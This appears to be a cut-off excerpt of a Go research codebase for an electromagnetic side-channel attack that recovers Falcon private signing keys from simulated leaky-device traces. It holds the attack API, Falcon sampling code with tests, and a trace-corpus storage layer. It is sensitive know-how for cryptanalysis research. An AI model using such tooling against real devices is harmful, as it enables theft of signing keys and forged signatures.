func ParamsForDegree(n int) (*Params, error) { return falcon.ParamsForDegree(n) }

// NewVictimDevice wraps a private key into a leaky device using the
// Hamming-weight model and the given probe.
func NewVictimDevice(priv *PrivateKey, probe Probe, seed uint64) *Device {
	return emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, probe, seed)
}

// CollectTraces runs a known-plaintext campaign of count measurements
// against the device.
func CollectTraces(dev *Device, count int, seed uint64) ([]Observation, error) {
	return emleak.NewCampaign(dev, seed).Collect(count)
}

// RecoverKey runs the full Falcon-Down attack: extract FFT(f) from the
// traces, invert to f, derive g from the public key, re-solve the NTRU
// equation and return a signing key equivalent to the victim's.
func RecoverKey(obs []Observation, pub *PublicKey, cfg AttackConfig) (*PrivateKey, *AttackReport, error) {
	return core.RecoverKey(obs, pub, cfg)
}

// RecoverKeyFromSource runs the full attack against a streamed campaign
// (for example an on-disk corpus from OpenTraceCorpus). The source is
// swept a bounded number of times and never materialized, so corpora far
// larger than memory work unchanged.
func RecoverKeyFromSource(src TraceSource, pub *PublicKey, cfg AttackConfig) (*PrivateKey, *AttackReport, error) {
	return core.RecoverKeyFrom(src, pub, cfg)
}

// NewTraceSource wraps an in-memory campaign of degree n as a TraceSource.
func NewTraceSource(n int, obs []Observation) TraceSource {
	return tracestore.NewSliceSource(n, obs)
}

// OpenTraceCorpus opens an on-disk campaign: a single v2 or legacy v1
// trace file, a shard glob, or a directory of shards.
func OpenTraceCorpus(path string) (*TraceCorpus, error) { return tracestore.Open(path) }

// NewTraceWriter creates a sharded trace-corpus writer for a degree-n
// campaign rooted at path.
func NewTraceWriter(path string, n int, opts TraceWriterOptions) (*TraceWriter, error) {
	return tracestore.NewWriter(path, n, opts)
}

// AcquireTraces runs a known-plaintext campaign of count measurements
// against the device in parallel and streams it into w. The written
// corpus is byte-identical for any worker count.
func AcquireTraces(dev *Device, seed uint64, count int, w *TraceWriter, opts AcquireOptions) error {
	return tracestore.Acquire(dev, seed, count, w, opts)
}

// FFTOfSecret exposes the FFT-domain secret of a key (ground truth for
// experiments).
func FFTOfSecret(priv *PrivateKey) []fft.Cplx { return priv.FFTOfF() }
