GO ?= go

.PHONY: all build vet test race race-short bench check smoke fuzz

all: check

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# -shuffle=on catches inter-test state leaks; seeds are reported on failure.
test:
	$(GO) test -shuffle=on ./...

# Full race run over every package.
race:
	$(GO) test -race ./...

# Quick race pass over the concurrent paths (acquisition worker pool and
# the multi-iterator attack sweeps).
race-short:
	$(GO) test -race -short -run 'Acquire|Stream|Corpus|Pool|Breaker|Clock' ./internal/tracestore ./internal/core ./internal/supervise ./internal/faultinject

bench:
	$(GO) test -run xxx -bench . -benchtime 1x ./...

# End-to-end crash-recovery smoke: tracegen -> kill -> resume -> attack
# (byte-identical resume, quarantined recovery, exit codes).
smoke:
	GO="$(GO)" ./scripts/smoke.sh

# Short randomized pass over the corpus-parsing fuzz target.
fuzz:
	$(GO) test -fuzz FuzzOpen -fuzztime 30s ./internal/tracestore

check: build vet test race-short
