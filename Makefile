GO ?= go

.PHONY: all build vet test race race-short bench bench-attack check smoke fuzz

all: check

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# -shuffle=on catches inter-test state leaks; seeds are reported on failure.
test:
	$(GO) test -shuffle=on ./...

# Full race run over every package.
race:
	$(GO) test -race ./...

# Quick race pass over the concurrent paths (acquisition worker pool,
# the parallel attack engine and its differential bit-identity suite,
# the prefetch pipeline, and the statistics merge operations).
race-short:
	$(GO) test -race -short -shuffle=on -run 'Acquire|Stream|Corpus|Pool|Breaker|Clock|Differential|Parallel|Merge|Prefetch' ./internal/tracestore ./internal/core ./internal/supervise ./internal/faultinject ./internal/cpa

bench:
	$(GO) test -run xxx -bench . -benchtime 1x ./...

# Machine-readable attack benchmark: runs BenchmarkAttack and writes
# BENCH_attack.json (name, ns/op, workers, host cores) for cross-host
# speedup comparisons.
bench-attack:
	GO="$(GO)" ./scripts/bench.sh

# End-to-end crash-recovery smoke: tracegen -> kill -> resume -> attack
# (byte-identical resume, quarantined recovery, exit codes).
smoke:
	GO="$(GO)" ./scripts/smoke.sh

# Short randomized passes over the fuzz targets: corpus parsing and the
# signature codec (canonicality + malformed-encoding rejection).
fuzz:
	$(GO) test -fuzz FuzzOpen -fuzztime 30s ./internal/tracestore
	$(GO) test -fuzz FuzzSignatureCodec -fuzztime 30s ./internal/codec
	$(GO) test -fuzz FuzzMatrixEngineState -fuzztime 30s ./internal/cpa

check: build vet test race-short
