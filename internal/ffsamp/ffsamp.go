// Package ffsamp implements FALCON's fast Fourier lattice sampling: the
// ffLDL* decomposition of the Gram matrix of the secret basis into a binary
// tree, and ffSampling, the randomized Fourier-domain variant of Babai's
// nearest-plane algorithm that draws lattice points from a discrete
// Gaussian centred on the target vector.
package ffsamp

import (
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/samplerz"
)

// Tree is a node of the ffLDL* tree for a polynomial size n (L10 has n/2
// complex entries). Internal nodes carry the LDL factor L10 and two
// children for the diagonal blocks d00 and d11; at the bottom level
// (n == 2) the children collapse into the leaf standard deviations
// σ/√(d00) and σ/√(d11) used by the integer sampler.
type Tree struct {
	L10            []fft.Cplx
	Child0, Child1 *Tree   // nil at the bottom level
	Sigma0, Sigma1 fpr.FPR // leaf values, set when children are nil
}

// BuildTree computes the ffLDL* tree of the Gram matrix
//
//	G = B·B* = [[g00, g01], [adj(g01), g11]]
//
// of the secret basis B = [[g, −f], [G, −F]] (inputs in FFT domain), then
// normalizes the leaves to sigma/√(leaf) as FALCON's keygen does.
func BuildTree(g00, g01, g11 []fft.Cplx, sigma fpr.FPR) *Tree {
	t := ffLDL(g00, g01, g11)
	normalize(t, sigma)
	return t
}

// GramOfBasis returns the three independent entries of B·B* for
// B = [[g, −f], [G, −F]] in FFT representation.
func GramOfBasis(fF, gF, FF, GF []fft.Cplx) (g00, g01, g11 []fft.Cplx) {
	n := len(fF)
	g00 = make([]fft.Cplx, n)
	g01 = make([]fft.Cplx, n)
	g11 = make([]fft.Cplx, n)
	for i := 0; i < n; i++ {
		g00[i] = gF[i].Mul(gF[i].Conj()).Add(fF[i].Mul(fF[i].Conj()))
		g01[i] = gF[i].Mul(GF[i].Conj()).Add(fF[i].Mul(FF[i].Conj()))
		g11[i] = GF[i].Mul(GF[i].Conj()).Add(FF[i].Mul(FF[i].Conj()))
	}
	return g00, g01, g11
}

// ffLDL recursively decomposes the self-adjoint Gram matrix
// [[g00, g01], [adj(g01), g11]]: one LDL step produces L10 = adj(g01)/g00
// and the diagonal d00 = g00, d11 = g11 − |L10|²·g00; each diagonal entry
// is then split into a half-size self-adjoint Gram matrix.
func ffLDL(g00, g01, g11 []fft.Cplx) *Tree {
	n := len(g00)
	l10 := make([]fft.Cplx, n)
	d11 := make([]fft.Cplx, n)
	for i := 0; i < n; i++ {
		l10[i] = g01[i].Conj().Div(g00[i])
		d11[i] = g11[i].Sub(l10[i].Mul(l10[i].Conj()).Mul(g00[i]))
	}
	t := &Tree{L10: l10}
	if n == 1 {
		// Bottom level: d00 and d11 are real (self-adjoint size-1).
		t.Sigma0 = g00[0].Re
		t.Sigma1 = d11[0].Re
		return t
	}
	d00 := g00
	d00e, d00o := fft.Split(d00)
	d11e, d11o := fft.Split(d11)
	// A split self-adjoint polynomial d = d_e(x²) + x·d_o(x²) yields the
	// half-size self-adjoint Gram [[d_e, d_o], [adj(d_o), d_e]].
	t.Child0 = ffLDL(d00e, d00o, d00e)
	t.Child1 = ffLDL(d11e, d11o, d11e)
	return t
}

// normalize replaces each leaf value d with sigma/√d.
func normalize(t *Tree, sigma fpr.FPR) {
	if t.Child0 == nil {
		t.Sigma0 = fpr.Div(sigma, fpr.Sqrt(t.Sigma0))
		t.Sigma1 = fpr.Div(sigma, fpr.Sqrt(t.Sigma1))
		return
	}
	normalize(t.Child0, sigma)
	normalize(t.Child1, sigma)
}

// Depth returns the tree height (number of internal levels).
func (t *Tree) Depth() int {
	if t.Child0 == nil {
		return 1
	}
	return 1 + t.Child0.Depth()
}

// Sample runs ffSampling: given the target t = (t0, t1) in FFT domain, it
// returns integer-valued (in FFT domain) vectors (z0, z1) distributed as a
// discrete Gaussian over Z^{2n} centred on t with covariance shaped by the
// tree. sp supplies the integer Gaussian sampler.
func (t *Tree) Sample(t0, t1 []fft.Cplx, sp *samplerz.Sampler) (z0, z1 []fft.Cplx) {
	if len(t0) == 1 {
		// Polynomial size 2: the single complex entry holds the two real
		// coefficients directly, so sample them with the leaf deviations.
		s1 := t.Sigma1.Float64()
		z1 = []fft.Cplx{{
			Re: fpr.FromInt64(sp.SampleZ(t1[0].Re.Float64(), s1)),
			Im: fpr.FromInt64(sp.SampleZ(t1[0].Im.Float64(), s1)),
		}}
		tb := t0[0].Add(t1[0].Sub(z1[0]).Mul(t.L10[0]))
		s0 := t.Sigma0.Float64()
		z0 = []fft.Cplx{{
			Re: fpr.FromInt64(sp.SampleZ(tb.Re.Float64(), s0)),
			Im: fpr.FromInt64(sp.SampleZ(tb.Im.Float64(), s0)),
		}}
		return z0, z1
	}
	t1e, t1o := fft.Split(t1)
	z1e, z1o := t.Child1.Sample(t1e, t1o, sp)
	z1 = fft.Merge(z1e, z1o)
	// Babai feedback: shift the first target by the residual of the second.
	t0b := fft.AddVec(t0, fft.MulVec(fft.SubVec(t1, z1), t.L10))
	t0e, t0o := fft.Split(t0b)
	z0e, z0o := t.Child0.Sample(t0e, t0o, sp)
	z0 = fft.Merge(z0e, z0o)
	return z0, z1
}
