package ffsamp

import (
	"math"
	"testing"

	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
	"falcondown/internal/rng"
	"falcondown/internal/samplerz"
)

// testBasis generates a small NTRU basis for tree tests.
func testBasis(t *testing.T, n int, seed uint64) *ntru.Key {
	t.Helper()
	key, err := ntru.Generate(n, rng.New(seed))
	if err != nil {
		t.Fatalf("ntru.Generate(%d): %v", n, err)
	}
	return key
}

func gramFor(key *ntru.Key) (g00, g01, g11 []fft.Cplx) {
	return GramOfBasis(
		fft.FFTInt16(key.Fs), fft.FFTInt16(key.Gs),
		fft.FFTInt16(key.F), fft.FFTInt16(key.G))
}

func TestGramIsSelfAdjointAndPositive(t *testing.T) {
	key := testBasis(t, 32, 1)
	g00, _, g11 := gramFor(key)
	for i := range g00 {
		if g00[i].Re.Float64() <= 0 || g11[i].Re.Float64() <= 0 {
			t.Fatalf("diagonal not positive at %d", i)
		}
		if math.Abs(g00[i].Im.Float64()) > 1e-6 || math.Abs(g11[i].Im.Float64()) > 1e-6 {
			t.Fatalf("diagonal not real at %d", i)
		}
	}
}

func TestTreeDepthAndLeaves(t *testing.T) {
	for _, n := range []int{4, 16, 64} {
		key := testBasis(t, n, uint64(n))
		g00, g01, g11 := gramFor(key)
		tree := BuildTree(g00, g01, g11, fpr.FromFloat64(100))
		wantDepth := 0
		for m := n; m >= 2; m /= 2 {
			wantDepth++
		}
		if d := tree.Depth(); d != wantDepth {
			t.Fatalf("n=%d: depth %d, want %d", n, d, wantDepth)
		}
		// All leaf sigmas must be positive and finite.
		var walk func(tr *Tree)
		var leaves int
		walk = func(tr *Tree) {
			if tr.Child0 == nil {
				leaves += 2
				for _, s := range []fpr.FPR{tr.Sigma0, tr.Sigma1} {
					v := s.Float64()
					if !(v > 0) || math.IsInf(v, 0) || math.IsNaN(v) {
						t.Fatalf("n=%d: bad leaf sigma %v", n, v)
					}
				}
				return
			}
			walk(tr.Child0)
			walk(tr.Child1)
		}
		walk(tree)
		if leaves != n {
			t.Fatalf("n=%d: %d leaves, want %d", n, leaves, n)
		}
	}
}

func TestLeafSigmasAboveSigmaMin(t *testing.T) {
	// With sigma set to the parameter-set value, the normalized leaves
	// σ/√d must lie in [σ_min, σ_max] — the admissible range of SamplerZ.
	// This is precisely what the keygen GS-norm acceptance test
	// guarantees, so it must hold for generated keys.
	n := 64
	key := testBasis(t, n, 7)
	// Reproduce the parameter formula locally to avoid an import cycle.
	eps := 1 / math.Sqrt(math.Ldexp(128, 64))
	sigma := 1.17 * math.Sqrt(12289) * (1 / math.Pi) * math.Sqrt(math.Log(4*float64(n)*(1+1/eps))/2)
	sigmaMin := sigma / (1.17 * math.Sqrt(12289))
	g00, g01, g11 := gramFor(key)
	tree := BuildTree(g00, g01, g11, fpr.FromFloat64(sigma))
	var walk func(tr *Tree)
	walk = func(tr *Tree) {
		if tr.Child0 == nil {
			for _, s := range []fpr.FPR{tr.Sigma0, tr.Sigma1} {
				v := s.Float64()
				if v < sigmaMin*0.999 || v > samplerz.SigmaMax*1.001 {
					t.Fatalf("leaf sigma %v outside [%v, %v]", v, sigmaMin, samplerz.SigmaMax)
				}
			}
			return
		}
		walk(tr.Child0)
		walk(tr.Child1)
	}
	walk(tree)
}

func TestSampleReturnsIntegerVectors(t *testing.T) {
	n := 32
	key := testBasis(t, n, 3)
	g00, g01, g11 := gramFor(key)
	tree := BuildTree(g00, g01, g11, fpr.FromFloat64(60))
	sp := samplerz.New(rng.New(99), 1.2778336969128337)

	// Random small target.
	r := rng.New(5)
	tpoly0 := make([]fpr.FPR, n)
	tpoly1 := make([]fpr.FPR, n)
	for i := 0; i < n; i++ {
		tpoly0[i] = fpr.FromFloat64(r.Float64() * 3)
		tpoly1[i] = fpr.FromFloat64(-r.Float64() * 3)
	}
	z0, z1 := tree.Sample(fft.FFT(tpoly0), fft.FFT(tpoly1), sp)
	for _, z := range [][]fft.Cplx{z0, z1} {
		coeffs := fft.InvFFT(z)
		for i, c := range coeffs {
			v := c.Float64()
			if math.Abs(v-math.Round(v)) > 1e-6 {
				t.Fatalf("coefficient %d = %v is not integral", i, v)
			}
		}
	}
}

func TestSampleCentersOnTarget(t *testing.T) {
	// Averaged over many samples, z should track the (integer) target:
	// ffSampling is a randomized rounding of t.
	n := 16
	key := testBasis(t, n, 11)
	g00, g01, g11 := gramFor(key)
	eps := 1 / math.Sqrt(math.Ldexp(128, 64))
	sigma := 1.17 * math.Sqrt(12289) * (1 / math.Pi) * math.Sqrt(math.Log(4*float64(n)*(1+1/eps))/2)
	tree := BuildTree(g00, g01, g11, fpr.FromFloat64(sigma))
	sp := samplerz.New(rng.New(42), sigma/(1.17*math.Sqrt(12289)))

	target := make([]fpr.FPR, n)
	target[0] = fpr.FromFloat64(7.5)
	target[3] = fpr.FromFloat64(-2.25)
	tf := fft.FFT(target)
	zero := fft.FFT(make([]fpr.FPR, n))

	iters := 200
	mean := make([]float64, n)
	for it := 0; it < iters; it++ {
		z0, _ := tree.Sample(tf, zero, sp)
		c := fft.InvFFT(z0)
		for i := range mean {
			mean[i] += c[i].Float64() / float64(iters)
		}
	}
	if math.Abs(mean[0]-7.5) > 1.5 {
		t.Fatalf("mean[0] = %v, want ≈7.5", mean[0])
	}
	if math.Abs(mean[3]+2.25) > 1.5 {
		t.Fatalf("mean[3] = %v, want ≈-2.25", mean[3])
	}
	for i := range mean {
		if i != 0 && i != 3 && math.Abs(mean[i]) > 1.5 {
			t.Fatalf("mean[%d] = %v, want ≈0", i, mean[i])
		}
	}
}

func TestSampleDeterministicUnderSeed(t *testing.T) {
	n := 8
	key := testBasis(t, n, 13)
	g00, g01, g11 := gramFor(key)
	tree := BuildTree(g00, g01, g11, fpr.FromFloat64(50))
	target := fft.FFT(make([]fpr.FPR, n))
	a0, a1 := tree.Sample(target, target, samplerz.New(rng.New(1), 1.3))
	b0, b1 := tree.Sample(target, target, samplerz.New(rng.New(1), 1.3))
	for i := range a0 {
		if a0[i] != b0[i] || a1[i] != b1[i] {
			t.Fatal("sampling not deterministic")
		}
	}
}
