package tracestore

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"falcondown/internal/emleak"
)

// shardInfo is the validated metadata of one corpus file.
type shardInfo struct {
	path    string
	version int
	n       int
	count   int         // readable observations (excludes quarantined chunks)
	chunks  []chunkMeta // v2 only
	// quarantined flags chunks a lenient open found damaged; iterators
	// skip them. nil for strictly opened shards.
	quarantined []bool
}

// isQuarantined reports whether chunk i is excluded from reads.
func (s *shardInfo) isQuarantined(i int) bool {
	return s.quarantined != nil && s.quarantined[i]
}

// Corpus is a read-only, sharded trace campaign on disk. It implements
// Source; every Iterate opens its own file handles, so concurrent passes
// are independent.
type Corpus struct {
	n      int
	count  int
	shards []shardInfo
	// lenient corpora (OpenLenient) skip quarantined chunks and re-read
	// transiently failing chunks with bounded backoff; the quarantine
	// list is pinned at open, so every pass sees the same subset.
	lenient bool

	// Content manifest, hashed lazily on first Manifest() call and pinned
	// for the corpus lifetime (see manifest.go).
	manifestMu  sync.Mutex
	manifest    *Manifest
	manifestErr error
}

// N implements Source.
func (c *Corpus) N() int { return c.n }

// Count implements Source.
func (c *Corpus) Count() int { return c.count }

// Shards returns the number of files backing the corpus.
func (c *Corpus) Shards() int { return len(c.shards) }

// Paths returns the shard files in read order.
func (c *Corpus) Paths() []string {
	out := make([]string, len(c.shards))
	for i, s := range c.shards {
		out[i] = s.path
	}
	return out
}

// Open resolves path into a corpus:
//
//   - a directory reads every *.fdt2/*.fdtr file in it (sorted);
//   - a glob pattern reads its matches;
//   - an existing file is sniffed as a v2 shard or a legacy v1 blob;
//   - otherwise the sharded spelling of path (base-*.ext) is globbed, so
//     the same -out value round-trips between tracegen and attack.
func Open(path string) (*Corpus, error) {
	paths, err := resolvePaths(path)
	if err != nil {
		return nil, err
	}
	return OpenFiles(paths)
}

// resolvePaths expands a corpus spelling (file, directory, glob, or
// sharded -out value) into an ordered shard list.
func resolvePaths(path string) ([]string, error) {
	if st, err := os.Stat(path); err == nil {
		if !st.IsDir() {
			return []string{path}, nil
		}
		var paths []string
		for _, pat := range []string{"*.fdt2", "*.fdtr"} {
			m, err := filepath.Glob(filepath.Join(path, pat))
			if err != nil {
				return nil, fmt.Errorf("tracestore: %w", err)
			}
			paths = append(paths, m...)
		}
		sort.Strings(paths)
		if len(paths) == 0 {
			return nil, fmt.Errorf("%w: no shard files in directory %s", ErrBadFormat, path)
		}
		return paths, nil
	}
	pattern := path
	if !strings.ContainsAny(pattern, "*?[") {
		ext := filepath.Ext(path)
		pattern = path[:len(path)-len(ext)] + "-*" + ext
	}
	paths, err := filepath.Glob(pattern)
	if err != nil {
		return nil, fmt.Errorf("tracestore: %w", err)
	}
	sort.Strings(paths)
	if len(paths) == 0 {
		return nil, fmt.Errorf("tracestore: no corpus at %s (also tried %s)", path, pattern)
	}
	return paths, nil
}

// OpenFiles validates the given shard files (in order) as one corpus.
func OpenFiles(paths []string) (*Corpus, error) {
	if len(paths) == 0 {
		return nil, fmt.Errorf("%w: empty shard list", ErrBadFormat)
	}
	c := &Corpus{}
	for _, p := range paths {
		s, err := openShard(p)
		if err != nil {
			return nil, err
		}
		if c.n == 0 {
			c.n = s.n
		} else if c.n != s.n {
			return nil, fmt.Errorf("%w: shard %s has degree %d, corpus has %d",
				ErrBadFormat, p, s.n, c.n)
		}
		c.count += s.count
		c.shards = append(c.shards, s)
	}
	return c, nil
}

// openShard validates one file's header and (for v2) footer index without
// reading the payload.
func openShard(path string) (shardInfo, error) {
	fail := func(err error) (shardInfo, error) {
		return shardInfo{}, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	f, err := os.Open(path)
	if err != nil {
		return shardInfo{}, fmt.Errorf("tracestore: %w", err)
	}
	defer f.Close()
	var hdr [headerSize]byte
	if _, err := io.ReadFull(f, hdr[:]); err != nil {
		return fail(fmt.Errorf("%w: short header", ErrBadFormat))
	}
	switch string(hdr[:4]) {
	case magicV1:
		version := binary.LittleEndian.Uint32(hdr[4:])
		n := int(binary.LittleEndian.Uint32(hdr[8:]))
		count := int(int32(binary.LittleEndian.Uint32(hdr[12:])))
		if version != version1 {
			return fail(fmt.Errorf("%w: v1 blob with version %d", ErrBadFormat, version))
		}
		if !validDegree(n) || count < 0 || count > maxCount {
			return fail(fmt.Errorf("%w: implausible header (n=%d count=%d)", ErrBadFormat, n, count))
		}
		st, err := f.Stat()
		if err != nil {
			return fail(err)
		}
		want := int64(headerSize) + int64(count)*int64(observationSize(n))
		if st.Size() != want {
			return fail(fmt.Errorf("%w: v1 blob is %d bytes, header implies %d (truncated or trailing garbage)",
				ErrBadFormat, st.Size(), want))
		}
		return shardInfo{path: path, version: version1, n: n, count: count}, nil
	case magicV2:
		version := binary.LittleEndian.Uint32(hdr[4:])
		n := int(binary.LittleEndian.Uint32(hdr[8:]))
		if version != version2 {
			return fail(fmt.Errorf("%w: v2 shard with version %d", ErrBadFormat, version))
		}
		if !validDegree(n) {
			return fail(fmt.Errorf("%w: implausible degree %d", ErrBadFormat, n))
		}
		st, err := f.Stat()
		if err != nil {
			return fail(err)
		}
		if st.Size() < headerSize+trailerSize {
			return fail(fmt.Errorf("%w: %d bytes is too short for a shard (truncated)", ErrBadFormat, st.Size()))
		}
		var tr [trailerSize]byte
		if _, err := f.ReadAt(tr[:], st.Size()-trailerSize); err != nil {
			return fail(fmt.Errorf("%w: unreadable trailer", ErrBadFormat))
		}
		if string(tr[20:24]) != magicFooter {
			return fail(fmt.Errorf("%w: footer magic missing (truncated shard)", ErrBadFormat))
		}
		indexOffset := int64(binary.LittleEndian.Uint64(tr[0:]))
		totalObs := int64(binary.LittleEndian.Uint64(tr[8:]))
		indexCRC := binary.LittleEndian.Uint32(tr[16:])
		indexLen := st.Size() - trailerSize - indexOffset
		if indexOffset < headerSize || indexLen < 4 || totalObs < 0 || totalObs > maxCount {
			return fail(fmt.Errorf("%w: implausible trailer (indexOffset=%d totalObs=%d)",
				ErrBadFormat, indexOffset, totalObs))
		}
		idx := make([]byte, indexLen)
		if _, err := f.ReadAt(idx, indexOffset); err != nil {
			return fail(fmt.Errorf("%w: unreadable index", ErrBadFormat))
		}
		if crc32.Checksum(idx, castagnoli) != indexCRC {
			return fail(fmt.Errorf("%w: footer index at offset %d", ErrChecksum, indexOffset))
		}
		chunkCount := int(binary.LittleEndian.Uint32(idx))
		if int64(4+chunkCount*16) != indexLen {
			return fail(fmt.Errorf("%w: index declares %d chunks in %d bytes", ErrBadFormat, chunkCount, indexLen))
		}
		chunks := make([]chunkMeta, chunkCount)
		var sum int64
		next := int64(headerSize)
		for i := range chunks {
			e := idx[4+i*16:]
			chunks[i] = chunkMeta{
				offset:     int64(binary.LittleEndian.Uint64(e)),
				count:      binary.LittleEndian.Uint32(e[8:]),
				payloadLen: binary.LittleEndian.Uint32(e[12:]),
			}
			if chunks[i].offset != next ||
				int64(chunks[i].payloadLen) != int64(chunks[i].count)*int64(observationSize(n)) {
				return fail(fmt.Errorf("%w: chunk %d index entry inconsistent (offset %d, want %d)",
					ErrBadFormat, i, chunks[i].offset, next))
			}
			next += chunkHdrSize + int64(chunks[i].payloadLen)
			sum += int64(chunks[i].count)
		}
		if next != indexOffset || sum != totalObs {
			return fail(fmt.Errorf("%w: index covers %d observations ending at %d, trailer says %d ending at %d",
				ErrBadFormat, sum, next, totalObs, indexOffset))
		}
		return shardInfo{path: path, version: version2, n: n, count: int(totalObs), chunks: chunks}, nil
	default:
		return fail(fmt.Errorf("%w: unknown magic %q", ErrBadFormat, hdr[:4]))
	}
}

// Iterate implements Source.
func (c *Corpus) Iterate() (Iterator, error) {
	return &corpusIterator{corpus: c}, nil
}

// corpusIterator streams shards sequentially, verifying each chunk's CRC
// before yielding its observations.
type corpusIterator struct {
	corpus *Corpus
	shard  int
	f      *os.File
	br     *bufio.Reader

	// v2 state
	chunkIdx int
	buf      []byte // current verified chunk payload
	bufPos   int
	// v1 state
	remaining int
	offset    int64
	v1buf     []byte
}

func (it *corpusIterator) Next() (emleak.Observation, error) {
	for {
		if it.f == nil {
			if it.shard >= len(it.corpus.shards) {
				return emleak.Observation{}, io.EOF
			}
			if err := it.openShard(); err != nil {
				return emleak.Observation{}, err
			}
		}
		s := &it.corpus.shards[it.shard]
		if s.version == version1 {
			if it.remaining == 0 {
				it.closeShard()
				continue
			}
			if _, err := io.ReadFull(it.br, it.v1buf); err != nil {
				return emleak.Observation{}, fmt.Errorf(
					"tracestore: shard %s: %w: observation truncated at offset %d",
					s.path, ErrBadFormat, it.offset)
			}
			it.remaining--
			it.offset += int64(len(it.v1buf))
			return decodeObservation(it.v1buf, s.n), nil
		}
		// v2: refill the chunk buffer when drained, skipping chunks the
		// lenient open quarantined (the list is pinned, so every pass
		// over the corpus skips the same ones).
		if it.bufPos >= len(it.buf) {
			for it.chunkIdx < len(s.chunks) && s.isQuarantined(it.chunkIdx) {
				if it.br != nil {
					meta := s.chunks[it.chunkIdx]
					if _, err := it.br.Discard(chunkHdrSize + int(meta.payloadLen)); err != nil {
						return emleak.Observation{}, fmt.Errorf(
							"tracestore: shard %s: %w: quarantined chunk %d unskippable at offset %d",
							s.path, ErrBadFormat, it.chunkIdx, meta.offset)
					}
				}
				it.chunkIdx++
			}
			if it.chunkIdx >= len(s.chunks) {
				it.closeShard()
				continue
			}
			if err := it.readChunk(s); err != nil {
				return emleak.Observation{}, err
			}
			continue
		}
		o := decodeObservation(it.buf[it.bufPos:], s.n)
		it.bufPos += observationSize(s.n)
		return o, nil
	}
}

func (it *corpusIterator) openShard() error {
	s := &it.corpus.shards[it.shard]
	f, err := os.Open(s.path)
	if err != nil {
		return fmt.Errorf("tracestore: %w", err)
	}
	it.f = f
	if it.corpus.lenient && s.version == version2 {
		// Lenient v2 shards are read chunk-at-a-time through ReadAt (the
		// index pins every offset), which lets a failed read be retried
		// in place with backoff and quarantined chunks be skipped without
		// a seek dance.
		it.br = nil
	} else {
		it.br = bufio.NewReaderSize(f, 1<<20)
		if _, err := it.br.Discard(headerSize); err != nil {
			it.closeShard()
			return fmt.Errorf("tracestore: shard %s: %w: short header", s.path, ErrBadFormat)
		}
	}
	it.chunkIdx = 0
	it.buf = it.buf[:0]
	it.bufPos = 0
	it.remaining = s.count
	it.offset = headerSize
	if s.version == version1 {
		it.v1buf = make([]byte, observationSize(s.n))
	}
	return nil
}

// readChunk loads and verifies the next chunk of the current v2 shard. In
// lenient mode the read is positioned (ReadAt) and retried with bounded
// backoff before the chunk is declared dead.
func (it *corpusIterator) readChunk(s *shardInfo) error {
	meta := s.chunks[it.chunkIdx]
	if cap(it.buf) < int(meta.payloadLen) {
		it.buf = make([]byte, meta.payloadLen)
	}
	it.buf = it.buf[:meta.payloadLen]
	if it.br == nil {
		if err := readChunkRetry(it.f, it.buf, meta); err != nil {
			return fmt.Errorf("tracestore: shard %s: chunk %d: %w", s.path, it.chunkIdx, err)
		}
		it.chunkIdx++
		it.bufPos = 0
		return nil
	}
	var hdr [chunkHdrSize]byte
	if _, err := io.ReadFull(it.br, hdr[:]); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w: chunk %d header truncated at offset %d",
			s.path, ErrBadFormat, it.chunkIdx, meta.offset)
	}
	count := binary.LittleEndian.Uint32(hdr[0:])
	payloadLen := binary.LittleEndian.Uint32(hdr[4:])
	crc := binary.LittleEndian.Uint32(hdr[8:])
	if count != meta.count || payloadLen != meta.payloadLen {
		return fmt.Errorf("tracestore: shard %s: %w: chunk %d header (count=%d len=%d) disagrees with index (count=%d len=%d)",
			s.path, ErrBadFormat, it.chunkIdx, count, payloadLen, meta.count, meta.payloadLen)
	}
	if _, err := io.ReadFull(it.br, it.buf); err != nil {
		return fmt.Errorf("tracestore: shard %s: %w: chunk %d payload truncated at offset %d",
			s.path, ErrBadFormat, it.chunkIdx, meta.offset)
	}
	if got := crc32.Checksum(it.buf, castagnoli); got != crc {
		mCRCRejects.Inc()
		return fmt.Errorf("tracestore: shard %s: %w: chunk %d at offset %d (crc %08x, want %08x)",
			s.path, ErrChecksum, it.chunkIdx, meta.offset, got, crc)
	}
	mChunksDecoded.Inc()
	mBytesDecoded.Add(int64(chunkHdrSize + len(it.buf)))
	it.chunkIdx++
	it.bufPos = 0
	return nil
}

func (it *corpusIterator) closeShard() {
	if it.f != nil {
		it.f.Close()
		it.f = nil
		it.br = nil
	}
	it.shard++
	it.buf = it.buf[:0]
	it.bufPos = 0
}

func (it *corpusIterator) Close() error {
	if it.f != nil {
		err := it.f.Close()
		it.f = nil
		return err
	}
	return nil
}
