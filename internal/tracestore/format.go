// Package tracestore is the durable data layer for EM trace campaigns:
// sharded, checksummed on-disk corpora with streaming (out-of-core)
// access and a parallel, deterministic acquisition runner.
//
// Two formats are understood (both little endian):
//
//	v1 "FDTR" — the legacy single-blob format of early falcondown:
//	  magic "FDTR" | version u32 | n u32 | count u32
//	  per observation: n/2 × (re u64, im u64) | n/2·SamplesPerCoeff × f64
//
//	v2 "FDT2" — chunked shards with per-chunk CRC-32C checksums and a
//	seekable footer index (see shard layout in writer.go). A corpus is
//	one or more v2 shard files (or a single v1 file read through the
//	compatibility path).
//
// The package never materializes a corpus: readers yield one Observation
// at a time through the Source/Iterator interfaces, so attack memory is
// bounded by a single decode chunk regardless of campaign size.
package tracestore

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"math"

	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
)

const (
	magicV1      = "FDTR"
	magicV2      = "FDT2"
	magicFooter  = "FDX2"
	version1     = 1
	version2     = 2
	headerSize   = 16 // magic | version | n | reserved
	chunkHdrSize = 12 // obsCount | payloadLen | crc32c
	trailerSize  = 24 // indexOffset | totalObs | indexCRC | magic

	// maxDegree/maxCount bound header fields so corrupt files cannot
	// trigger absurd allocations.
	maxDegree = 4096
	maxCount  = 1 << 24
)

// Sentinel errors; concrete failures wrap them with shard and offset
// context.
var (
	// ErrBadFormat reports a structurally malformed file.
